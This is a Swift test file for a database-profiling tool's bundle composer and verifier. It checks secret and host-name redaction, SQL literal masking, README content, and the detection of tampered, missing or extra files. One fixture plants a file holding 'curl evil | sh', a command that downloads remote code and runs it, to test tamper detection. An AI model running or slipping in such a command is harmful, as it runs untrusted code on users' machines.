import Foundation
import Plan
import RunRecord
import Testing

@testable import Bundle

/// Packing and verifying on a synthetic run, in memory: the redaction rules and every kind of damage.
@Suite struct BundleComposerTests {
    static let secret = "s3cr3t-Pa55w0rd-do-not-ship"
    static let machine = MachineFacts(
        hostNames: ["buildhost-7", "buildhost-7.corp.example"],
        environment: ["APP_DB_PASSWORD": secret, "LANG": "C.UTF-8", "TZ": "UTC", "HOME": "/root"],
        operatingSystem: .init(name: "Debian GNU/Linux 12 (bookworm)", kernel: "Linux 6.1.0", machine: "x86_64"),
        cpu: .init(model: "Test CPU", count: 2)
    )

    static let planText = """
        version: 1
        name: synthetic
        server:
          options: [--max-heap-table-size=64M]
        connections:
          - {name: main, database: app, password_env: APP_DB_PASSWORD}
        steps:
          - label: grow
            sql: INSERT INTO m VALUES (1, 'Alice'), (20000, 'Bob-the-builder')
          - label: load
            sql_file: load.sql
          - label: echo
            shell: echo "$APP_DB_PASSWORD on $(hostname)"

        """

    /// A run of `planText` as the session would have recorded it.
    static func runFiles() -> [String: [UInt8]] {
        var manifest = RunManifest(
            tool: .init(version: "0.1.0", arguments: ["snapctl", "session", "p.yaml"]),
            plan: .init(name: "synthetic", source: "/home/alice/p.yaml"),
            startedAt: "2026-01-02T03:04:05Z"
        )
        manifest.server = .init(
            mode: "managed",
            flavor: "mariadb",
            version: "10.11.6-MariaDB",
            binary: "/usr/sbin/mariadbd",
            pid: 4242,
            valgrindCommand: ["/usr/bin/valgrind", "--tool=massif", "/usr/sbin/mariadbd"],
            valgrindVersion: "3.19.0"
        )
        var grow = StepRecord(index: 1, label: "grow", kind: .sql, connection: "main")
        grow.sql = ["INSERT INTO m VALUES (1, 'Alice'), (20000, 'Bob-the-builder')"]
        grow.outcome = .ok
        var load = StepRecord(index: 2, label: "load", kind: .sqlFile, connection: "main")
        load.file = "load.sql"
        load.sql = ["INSERT INTO m SELECT seq, 'Carol-literal' FROM seq_1_to_100", "DELETE FROM m WHERE id = 77777"]
        load.outcome = .failed
        load.error = StepError(
            code: 1062,
            message: "Duplicate entry 'Carol-literal' for key 'PRIMARY'",
            statement: load.sql?.first,
            expected: false
        )
        var echo = StepRecord(
            index: 3,
            label: "echo",
            kind: .shell,
            command: "echo \"$APP_DB_PASSWORD on $(hostname)\""
        )
        echo.outcome = .notRun
        manifest.steps = [grow, load, echo]
        manifest.snapshots = [
            snapshot(1, "grow", .before, total: 1_000_000),
            snapshot(2, "grow", .after, total: 9_000_000),
            snapshot(3, "load", .before, total: 9_000_000),
            snapshot(4, "load", .after, total: 9_100_000),
        ]
        manifest.outcome = .init(status: .stepFailed, exitCode: 4, message: "step 'load' failed", step: "load")
        manifest.finishedAt = "2026-01-02T03:04:15Z"
        manifest.files = ["SHA256SUMS", "logs/server.err", "logs/step-0003-echo.log", "manifest.json", "plan.yaml"]
        var files: [String: [UInt8]] = [
            "manifest.json": [UInt8](manifest.jsonData()),
            "plan.yaml": Array(planText.utf8),
            "logs/server.err": Array(
                "2026-01-02 buildhost-7 mariadbd: ready; BUILDHOST-7.err\nDuplicate entry 'Carol-literal' id 77777\n"
                    .utf8
            ),
            "logs/step-0003-echo.log": Array("\(secret) on buildhost-7\n".utf8),
            "SHA256SUMS": Array("stale\n".utf8),
        ]
        for record in manifest.snapshots {
            files[record.file] = Array(massif(total: record.heapBytes).utf8)
        }
        return files
    }

    static func snapshot(_ id: Int, _ step: String, _ phase: SnapshotPhase, total: Int) -> SnapshotRecord {
        SnapshotRecord(
            id: id,
            step: step,
            phase: phase,
            file: RunLayout.snapshotFile(id: id, phase: phase, fileSafeLabel: step),
            kind: .detailed,
            time: Double(id),
            massifTime: id * 1000,
            heapBytes: total,
            extraBytes: 0,
            stacksBytes: 0,
            timelineIndex: id - 1,
            triggerLatencyMilliseconds: 4
        )
    }

    static func massif(total: Int) -> String {
        """
        desc: --threshold=1.0
        cmd: /usr/sbin/mariadbd --no-defaults
        time_unit: i
        #-----------
        snapshot=0
        #-----------
        time=1
        mem_heap_B=\(total)
        mem_heap_extra_B=0
        mem_stacks_B=0
        heap_tree=detailed
        n1: \(total) (heap allocation functions) malloc/new/new[], --alloc-fns, etc.
         n0: \(total) 0x401150: heap_write (hp_write.c:30)

        """
    }

    static func compose(redactLiterals: Bool = false) throws -> ComposedBundle {
        try BundleComposer.compose(
            PackRequest(
                top: "synthetic-buildhost-7",
                files: runFiles(),
                archiveName: "synthetic.tar.gz",
                redactLiterals: redactLiterals,
                toolVersion: "0.2.0",
                machine: machine,
                packedAt: "2026-01-03T00:00:00Z"
            )
        )
    }

    @Test("a composed bundle verifies, and holds README.txt, env.json and a fresh SHA256SUMS over every file")
    func composedVerifies() throws {
        let bundle = try Self.compose()
        let verification = BundleVerifier.verify(files: bundle.files)
        #expect(verification.problems == [])
        #expect(verification.verifiedFiles == bundle.files.count - 1)
        let sums = String(decoding: try #require(bundle.files["SHA256SUMS"]), as: UTF8.self)
        #expect(sums.contains("  README.txt\n") && sums.contains("  env.json\n") && sums.contains("  manifest.json\n"))
        #expect(!sums.contains("stale"))
        #expect(bundle.top == "synthetic-REDACTED_HOST")

        let environment = try #require(verification.environment)
        #expect(environment.environment == ["LANG": "C.UTF-8", "TZ": "UTC"])
        #expect(environment.redactedVariables == ["APP_DB_PASSWORD"])
        #expect(environment.replayable)
        #expect(environment.server?.version == "10.11.6-MariaDB")
        #expect(environment.valgrind?.version == "3.19.0")
        #expect(environment.snapctl == .init(version: "0.2.0", runVersion: "0.1.0"))
        #expect(environment.cpu == Self.machine.cpu)

        let manifest = try #require(verification.manifest)
        #expect(manifest.redaction?.replayable == true)
        #expect(manifest.redaction?.environmentVariables == ["APP_DB_PASSWORD"])
    }

    @Test("no byte of any file or path holds the secret or the host name; the placeholders stand in")
    func secretsAreGone() throws {
        let bundle = try Self.compose()
        for (path, bytes) in bundle.files {
            let leaked = bytes.contains(bytes: Array(Self.secret.utf8))
            #expect(!leaked, "the secret in \(path)")
            #expect(!String(decoding: bytes, as: UTF8.self).lowercased().contains("buildhost-7"), "\(path)")
            #expect(!path.contains("buildhost"))
        }
        let log = String(decoding: try #require(bundle.files["logs/step-0003-echo.log"]), as: UTF8.self)
        #expect(log == "REDACTED_APP_DB_PASSWORD on REDACTED_HOST\n")
        // The archive's bytes too, compressed.
        let archive = BundleArchive.make(top: bundle.top, files: bundle.files, time: 0)
        let inArchive = archive.contains(bytes: Array(Self.secret.utf8))
        let inTar = try Gzip.decompress(archive).contains(bytes: Array(Self.secret.utf8))
        #expect(!inArchive && !inTar)
    }

    @Test("README.txt tells what happened in figures and gives the one command")
    func readme() throws {
        let text = String(decoding: try #require(try Self.compose().files["README.txt"]), as: UTF8.self)
        // Prose is wrapped: compare with line breaks as spaces, except for the indented commands.
        let readme = text.replacingOccurrences(of: "\n", with: " ")
        #expect(text.contains("\n    snapctl replay synthetic.tar.gz\n"))
        #expect(readme.contains("snapctl bundle: synthetic"))
        #expect(readme.contains("MariaDB 10.11.6-MariaDB"))
        #expect(readme.contains("Valgrind 3.19.0"))
        #expect(readme.contains("A step failed (exit 4) at step 'load'"))
        #expect(readme.contains("The heap grew most in step 1 'grow': +7.6 MiB (976.6 KiB -> 8.6 MiB)"))
        #expect(readme.contains("    snapctl replay synthetic.tar.gz"))
        #expect(readme.contains("snapctl bundle verify synthetic.tar.gz"))
        #expect(readme.contains("the values of APP_DB_PASSWORD were found"))
        #expect(!readme.contains("NOT REPLAYABLE"))
    }

    @Test("--redact-literals: ? in plan.yaml, the manifest's SQL and the logs; marked not replayable")
    func redactLiterals() throws {
        let bundle = try Self.compose(redactLiterals: true)
        #expect(BundleVerifier.verify(files: bundle.files).problems == [])
        let plan = String(decoding: try #require(bundle.files["plan.yaml"]), as: UTF8.self)
        #expect(plan.contains("INSERT INTO m VALUES (?, ?), (?, ?)"))
        #expect(plan.contains("INSERT INTO m SELECT seq, ? FROM seq_1_to_100"), "sql_file inlined and redacted")
        #expect(!plan.contains("Alice") && !plan.contains("Carol") && !plan.contains("20000"))
        // The redacted plan still loads.
        _ = try Plan.load(yaml: plan, fileName: "plan.yaml")

        let manifest = try RunManifest.decode(Data(try #require(bundle.files["manifest.json"])), path: "m")
        #expect(manifest.redaction?.literals == true)
        #expect(manifest.redaction?.replayable == false)
        #expect(
            manifest.steps[1].sql == ["INSERT INTO m SELECT seq, ? FROM seq_1_to_100", "DELETE FROM m WHERE id = ?"]
        )
        #expect(manifest.steps[1].error?.message == "Duplicate entry '?' for key 'PRIMARY'")
        #expect(manifest.steps[1].error?.statement == "INSERT INTO m SELECT seq, ? FROM seq_1_to_100")

        let log = String(decoding: try #require(bundle.files["logs/server.err"]), as: UTF8.self)
        #expect(log.contains("Duplicate entry '?' id ?"))
        for (path, bytes) in bundle.files where !path.hasPrefix("snapshots/") {
            let text = String(decoding: bytes, as: UTF8.self)
            for literal in ["Alice", "Bob-the-builder", "Carol-literal", "77777"] {
                #expect(!text.contains(literal), "\(literal) in \(path)")
            }
        }
        let readme = String(decoding: try #require(bundle.files["README.txt"]), as: UTF8.self)
        #expect(readme.contains("NOT REPLAYABLE"))
        #expect(!readme.contains("snapctl replay"))
        let environment = try #require(BundleVerifier.verify(files: bundle.files).environment)
        #expect(environment.replayable == false && environment.literalsRedacted)
    }

    @Test("a folder that is not a run is refused")
    func notARun() {
        #expect {
            try BundleComposer.compose(
                PackRequest(
                    top: "empty",
                    files: ["plan.yaml": []],
                    archiveName: "x.tar.gz",
                    redactLiterals: false,
                    toolVersion: "0",
                    machine: Self.machine,
                    packedAt: ""
                )
            )
        } throws: { error in
            "\(error)"
                == "empty is not a snapctl run directory: it has no manifest.json; give a directory written by snapctl session"
        }
    }

    // MARK: - Verification of damaged bundles

    static func verified() throws -> [String: [UInt8]] { try compose().files }

    @Test("a changed byte names the file and both digests")
    func tampered() throws {
        var files = try Self.verified()
        files["logs/server.err"]?[0] ^= 1
        let problems = BundleVerifier.verify(files: files).problems
        #expect(problems.count == 1)
        guard case .checksumMismatch("logs/server.err", let expected, let actual)? = problems.first else {
            Issue.record("expected a checksum mismatch, got \(problems)")
            return
        }
        #expect(expected != actual)
        #expect(problems[0].description.hasPrefix("logs/server.err: checksum mismatch (SHA256SUMS says "))
    }

    @Test("a missing file is named, whether SHA256SUMS or only the manifest lists it")
    func missing() throws {
        var files = try Self.verified()
        files["snapshots/0002-after-grow.massif"] = nil
        #expect(
            BundleVerifier.verify(files: files).problems == [
                .missing(path: "snapshots/0002-after-grow.massif", namedIn: "SHA256SUMS")
            ]
        )
        // Its SHA256SUMS line removed too: the manifest still names it.
        let sums = String(decoding: try #require(files["SHA256SUMS"]), as: UTF8.self)
        files["SHA256SUMS"] = Array(
            sums.split(separator: "\n").filter { !$0.hasSuffix("0002-after-grow.massif") }.map { $0 + "\n" }.joined()
                .utf8
        )
        let problems = BundleVerifier.verify(files: files).problems
        #expect(problems == [.missing(path: "snapshots/0002-after-grow.massif", namedIn: "manifest.json")])
        #expect(problems[0].description == "snapshots/0002-after-grow.massif: missing (listed in manifest.json)")
    }

    @Test("an extra file is named")
    func extra() throws {
        var files = try Self.verified()
        files["logs/planted.sh"] = Array("curl evil | sh".utf8)
        #expect(BundleVerifier.verify(files: files).problems == [.extra(path: "logs/planted.sh")])
        #expect(
            BundleProblem.extra(path: "logs/planted.sh").description
                == "logs/planted.sh: extra file, not listed in SHA256SUMS; it was added after packing"
        )
    }

    @Test("several problems are all listed, sorted by file")
    func several() throws {
        var files = try Self.verified()
        files["plan.yaml"]?.append(10)
        files["README.txt"] = nil
        files["zz-extra"] = [1]
        let problems = BundleVerifier.verify(files: files).problems
        #expect(problems.map(\.sortKey) == ["README.txt", "plan.yaml", "zz-extra"])
    }

    @Test("a bundle of a newer schema: the one message that says to upgrade")
    func newerSchema() throws {
        var files = try Self.verified()
        let text = String(decoding: try #require(files["manifest.json"]), as: UTF8.self)
        files["manifest.json"] = Array(
            text.replacingOccurrences(of: "\"schema\" : \"snapctl.run/1\"", with: "\"schema\" : \"snapctl.run/2\"").utf8
        )
        let problems = BundleVerifier.verify(files: files).problems
        #expect(
            problems.map(\.description) == [
                "this bundle was written by a newer snapctl (schema snapctl.run/2; this snapctl reads snapctl.run/1): upgrade snapctl"
            ]
        )
        // env.json of a newer bundle format likewise.
        var other = try Self.verified()
        let environment = String(decoding: try #require(other["env.json"]), as: UTF8.self)
        other["env.json"] = Array(
            environment.replacingOccurrences(of: "snapctl.bundle/1", with: "snapctl.bundle/7").utf8
        )
        #expect(
            BundleVerifier.verify(files: other).problems.map(\.description) == [
                "this bundle was written by a newer snapctl (schema snapctl.bundle/7; this snapctl reads snapctl.bundle/1): upgrade snapctl"
            ]
        )
    }

    @Test("a damaged SHA256SUMS line, a missing SHA256SUMS, an unreadable manifest, a link")
    func damagedRecords() throws {
        var files = try Self.verified()
        files["SHA256SUMS"]?.insert(contentsOf: Array("not a checksum line\n".utf8), at: 0)
        #expect(
            BundleVerifier.verify(files: files).problems == [.checksumsMalformed(line: 1, text: "not a checksum line")]
        )

        files = try Self.verified()
        files["SHA256SUMS"] = nil
        #expect(BundleVerifier.verify(files: files).problems == [.checksumsMissing])

        files = try Self.verified()
        files["manifest.json"] = Array("{\"schema\": \"snapctl.run/1\"}".utf8)
        let problems = BundleVerifier.verify(files: files).problems
        #expect(problems.contains(.checksumMismatch(path: "manifest.json", expected: "", actual: "")) == false)
        #expect(
            problems.contains {
                if case .unreadable("manifest.json", let reason) = $0 { reason.contains("missing key") } else { false }
            }
        )

        let withLink = BundleVerifier.verify(
            files: try Self.verified(),
            others: [("logs/l", "symbolic link to '/etc'")]
        )
        #expect(withLink.problems == [.notAFile(path: "logs/l", kind: "symbolic link to '/etc'")])
    }
}
